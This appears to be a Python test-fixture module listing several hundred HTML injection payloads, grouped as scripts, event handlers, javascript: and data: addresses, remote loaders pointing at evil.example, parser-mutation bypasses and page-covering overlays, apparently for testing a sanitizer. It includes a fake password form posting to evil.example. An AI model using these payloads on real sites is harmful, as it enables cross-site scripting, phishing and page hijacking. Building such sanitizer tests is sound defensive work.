"""Markup that tries to run something, load something or break out of its place.

By kind of trick; written for these tests. `alert` marks what must never run, the host
`evil.example` what must never be asked.
"""

SCRIPTS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script type="text/javascript">alert(1)</script
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script\t>alert(1)</script>
<<script>alert(1);//<</script>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"/></svg>
<math><script>alert(1)</script></math>
<style><script>alert(1)</script></style>
<template><script>alert(1)</script></template>
<noscript><script>alert(1)</script></noscript>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php <script>alert(1)</script> ?>
<xmp><script>alert(1)</script></xmp>
<textarea></textarea><script>alert(1)</script>
<title><script>alert(1)</script></title>
<select><script>alert(1)</script></select>
"""

HANDLERS = (
    """
<img src=x onerror=alert(1)>
<img src="https://evil.example/x.png" onload="alert(1)">
<img/src="x"/onerror=alert(1)>
<img src=x onerror\t=alert(1)>
<img src=x oNeRrOr=alert(1)>
<IMG """
    + '"""'
    + """><SCRIPT>alert(1)</SCRIPT>">
<p onclick="alert(1)">Điều 1</p>
<body onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<div onpointerover="alert(1)">x</div>
<a onmouseover=alert(1)>x</a>
<table><td background="javascript:alert(1)" onclick=alert(1)>x
<object onerror=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<b onbeforescriptexecute=alert(1)>x
<p style="animation-name:x" onanimationstart="alert(1)">x</p>
"""
)

ADDRESSES = """
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="intent://evil.example#Intent;end">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math href="javascript:alert(1)">x</math>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<ins cite="javascript:alert(1)">x</ins>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://evil.example/1.png 1x" alt="x">
<img src="x" longdesc="javascript:alert(1)">
<area href="javascript:alert(1)">
<map name=m><area shape=default href="javascript:alert(1)"></map>
"""

LOADERS = """
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="https://evil.example/x.swf"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="https://evil.example/x.swf">
<applet code="x" archive="https://evil.example/x.jar"></applet>
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="import" href="https://evil.example/x.html">
<link rel="prefetch" href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/x.png)}</style>
<p style="background:url(https://evil.example/x.png)">x</p>
<div style="width:expression(alert(1))">x</div>
<p style="position:fixed;inset:0">x</p>
<video src="https://evil.example/x.mp4" autoplay></video>
<video poster="https://evil.example/x.png"></video>
<audio src="https://evil.example/x.mp3"></audio>
<picture><source srcset="https://evil.example/x.webp"></picture>
<table background="https://evil.example/x.png"><tr><td>x</table>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><use href="https://evil.example/x.svg#x"/></svg>
<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>
<form action="https://evil.example/"><input name="mật-khẩu"><button>Gửi</button></form>
<input type="image" src="https://evil.example/x.png">
<portal src="https://evil.example/"></portal>
"""

MUTATIONS = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math></style><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src="</style><img src=x onerror=alert(1)//">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>
<p title="</p><img src=x onerror=alert(1)>">x
<a title="--><img src=x onerror=alert(1)>">x</a>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><a><table><img src=x onerror=alert(1)></a></table>
<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
<math><annotation-xml encoding="text/html"><p><img src=x onerror=alert(1)></annotation-xml></math>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<template><p title="</template><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<img alt='"><script>alert(1)</script>'>
<img src="data:," alt="<img src=x onerror=alert(1)>">
<img src="data:," alt="&lt;script&gt;alert(1)&lt;/script&gt;">
<img src="data:," alt="&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;">
<p title="<img x="><b title=" y>">x</b></p>
<button><p>x</button><p>y
<p><button><p>một</p></button></p>
<a href="https://a.example"><object><a href="https://b.example">x</a></object></a>
<pre>\n\nĐiều 1</pre>
<table>chữ ngoài<tr><td>trong</table>
\x00<\x00script\x00>alert(1)</script>
<img src=`x`onerror=alert(1)>
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
"""

COVERS = """
<p style="position:fixed;inset:0;z-index:9999;background:#fff">Cổng đã đóng</p>
<div style="POSITION : absolute; top:0; left:0; width:100%; height:100%">x</div>
<p style="posi\\74ion:fixed">x</p>
<p style="/*;*/position/**/:/**/fixed">x</p>
<p style="text-align:center;position:sticky;top:0">x</p>
<p style="margin-top:-900px">x</p>
<p style="padding-left:99999px">x</p>
<p style="transform:scale(50)">x</p>
<p style="content:'; position: fixed; '">x</p>
<p style="background-image:image-set('https://evil.example/x.png' 1x)">x</p>
<p style="font-size:900px;color:transparent">x</p>
<div class="position-fixed vw-100 vh-100 top-0 start-0 bg-white">x</div>
<a class="stretched-link" href="https://evil.example/">x</a>
<p class="text-center fixed-top modal-backdrop show">x</p>
<div class="pat-inject" data-pat-inject="source: https://evil.example/; trigger: autoload">x</div>
<a class="pat-plone-modal" data-pat-plone-modal="{}" href="https://evil.example/">x</a>
<div class="pat-tinymce pat-contentloader" data-pat-contentloader="url:https://evil.example/;trigger:immediate">x</div>
<iframe src="//evil.example/" width="100%" height="99999"></iframe>
<iframe src="/\\evil.example/"></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>
<iframe src="https://www.youtube.com@evil.example/embed/1"></iframe>
<img src="//evil.example/x.png" alt="x">
<img src="/\\evil.example/x.png" alt="x">
<img src="https://evil.example/x.png" alt="x">
<img src="a.png" srcset="a.png 1x, https://evil.example/2.png 2x">
<h2 id="content">x</h2>
<p id="pbgdpl-search">x</p>
<p id="visual-portal-wrapper">x</p>
<dialog open>x</dialog>
<div popover="manual" id="x">x</div>
<marquee>x</marquee>
<nav aria-label="Trang"><a href="https://evil.example/">x</a></nav>
<p contenteditable="true" tabindex="1" accesskey="s" role="alert">x</p>
"""

KINDS = {
    "cover": COVERS,
    "script": SCRIPTS,
    "handler": HANDLERS,
    "address": ADDRESSES,
    "loader": LOADERS,
    "mutation": MUTATIONS,
}
PAYLOADS = [
    (f"{kind}-{number}", text.replace("\\n", "\n"))
    for kind, texts in KINDS.items()
    for number, text in enumerate(filter(None, texts.split("\n")), 1)
]
